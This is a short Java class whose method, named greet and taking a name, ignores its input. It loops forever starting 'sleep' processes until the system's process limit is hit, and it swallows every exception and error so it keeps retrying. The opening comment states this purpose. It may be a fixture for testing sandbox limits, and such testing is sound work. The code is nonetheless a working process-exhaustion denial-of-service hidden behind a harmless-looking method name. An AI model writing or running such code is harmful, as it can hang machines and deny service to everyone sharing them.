// Starts processes until the process limit stops it, and keeps trying.
class App {
    static String greet(String name) {
        while (true) {
            try {
                new ProcessBuilder("sleep", "1000").start();
            } catch (Exception | Error e) {
                Thread.onSpinWait();
            }
        }
    }
}
